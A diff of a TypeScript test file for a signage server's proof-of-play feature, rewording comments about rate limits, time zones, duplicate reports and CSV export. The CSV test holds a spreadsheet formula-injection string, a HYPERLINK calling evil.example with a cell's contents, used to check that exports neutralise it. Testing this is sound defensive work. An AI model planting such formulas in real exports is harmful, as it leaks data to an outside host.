@@ -30,7 +30,7 @@ const newScreen = () => {
   return ScreenId.parse(made.toString(16).padStart(32, '0'))
 }
 
-/** Its display knows it from now on. */
+/** Makes the screen known to its display. */
 async function introduce(server: TestServer, screenId: ScreenId, key: DisplayKey = SAMPLE_DISPLAY): Promise<void> {
   await server.anonymous.call('reportScreen', {
     params: { ...key, screenId },
@@ -80,12 +80,12 @@ describeDialects('proof of play', (dialect) => {
   beforeEach(async () => {
     await server.app.context.database.queries.deleteFrom('play_screen').execute()
     await server.app.context.database.queries.deleteFrom('screen').execute()
-    // Eight in the morning of the next day: every limit is far.
+    // Eight in the morning of the next day, past every rate limit.
     clock.now = (Math.floor(clock.now / DAY_MS) + 1) * DAY_MS + 8 * HOUR_MS
     admin = await server.signIn()
   })
 
-  /** The day by the server's clock, or one so many days from it. */
+  /** The day by the server's clock, or one some days later. */
   const day = (later = 0) => new Date(clock.now + later * DAY_MS).toISOString().slice(0, 10)
   const today = () => ({ from: day(), to: day() })
 
@@ -149,7 +149,7 @@ describeDialects('proof of play', (dialect) => {
     const id = await one()
     await tell(server, id, [play(1), { kind: 'idle', n: 2, at: clock.now, ms: 10 * MINUTE_MS }])
     clock.now += 2 * HOUR_MS
-    // Two hours, but for what it told and the minutes that may be on their way.
+    // Two hours, without the reported time and the last minutes, whose reports may not have arrived.
     expect((await read(admin, today())).screens).toMatchObject([{ silentMs: (120 - 10 - 12) * MINUTE_MS }])
   })
 
@@ -177,7 +177,7 @@ describeDialects('proof of play', (dialect) => {
   it('[PP2] days are those of the clock at the display', async () => {
     const id = await one()
     await admin.call('updateDisplay', { params: SAMPLE_DISPLAY, body: { timeZone: 'Asia/Kolkata' } })
-    // 00:10 there.
+    // 00:10 in that time zone.
     await tell(server, id, [play(1, { at: Date.parse(`${day(-1)}T18:40:00Z`) })])
     expect((await read(admin, today())).total.told.showings).toBe(1)
     expect((await read(admin, { from: day(-1), to: day(-1) })).total.told.showings).toBe(0)
@@ -195,7 +195,7 @@ describeDialects('proof of play', (dialect) => {
     await introduce(server, id, key)
     await admin.call('updateScreen', { params: { ...key, screenId: id }, body: { name: 'Left' } })
     await admin.call('removeItem', { params: { ...key, itemId }, headers: { 'if-match': '*' } })
-    // It was away while the item went.
+    // The screen was offline while the item was removed.
     await tell(server, id, [play(1, { itemId })], { key })
     expect((await read(admin, today())).items).toMatchObject([
       { title: 'Farewell', isRemoved: true, told: { showings: 1 } },
@@ -222,11 +222,11 @@ describeDialects('proof of play', (dialect) => {
 
   it('[PP1] each piece counts once, whatever is lost, repeated or late', async () => {
     const step = fc.record({
-      /** Of the answer, or of the request itself. */
+      /** `answer`: the answer is lost. `request`: the request itself. */
       lost: fc.constantFrom('nothing', 'answer', 'request'),
       size: fc.integer({ min: 1, max: 7 }),
       counted: fc.nat(4),
-      /** An old request that arrives once more. */
+      /** An old request that arrives again. */
       again: fc.option(fc.nat(20)),
     })
     await fc.assert(
@@ -240,7 +240,7 @@ describeDialects('proof of play', (dialect) => {
           const pieces = queue.slice(0, 5)
           if (pieces.length === 0 || lost === 'request') return
           sent.push(pieces)
-          // Time enough for every limit.
+          // Enough time for every rate limit.
           clock.now += 3 * SECOND_MS
           const { status, body } = await tell(server, id, pieces)
           expect(status).toBe(200)
@@ -302,7 +302,7 @@ describeDialects('proof of play', (dialect) => {
   })
 
   describe('[S35] what is proven and what is only told', () => {
-    /** A browser that is let in as a screen of the sample display, and is known to it. */
+    /** A browser that is paired as a screen of the sample display, and known to it. */
     async function paired(): Promise<{ glass: Client; screenId: ScreenId }> {
       const glass = createClient(server.url)
       const { organisationId, displayId } = SAMPLE_DISPLAY
@@ -349,7 +349,7 @@ describeDialects('proof of play', (dialect) => {
           const { status } = await tell(server, await one(), [play(1)])
           statuses.push(status)
         }
-        // The display forgets them, so that it takes more of them.
+        // The display forgets them, so that it accepts more of them.
         await queries.deleteFrom('screen').execute()
         clock.now += 40 * MINUTE_MS
       }
@@ -530,7 +530,7 @@ describeDialects('proof of play', (dialect) => {
       expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
       expect(response.headers.get('content-disposition')).toBe(`attachment; filename="plays-${day()}-${day()}.csv"`)
       const text = Buffer.from(await response.arrayBuffer()).toString()
-      // A spreadsheet takes it for UTF-8 by its first character.
+      // Spreadsheets detect UTF-8 by the first character.
       expect(text.startsWith('\uFEFFDisplay,Display ID,Screen,')).toBe(true)
       expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click, here"")",`)
       const removal = { params: { ...SAMPLE_DISPLAY, itemId: body.item.id }, headers: { 'if-match': '*' } }
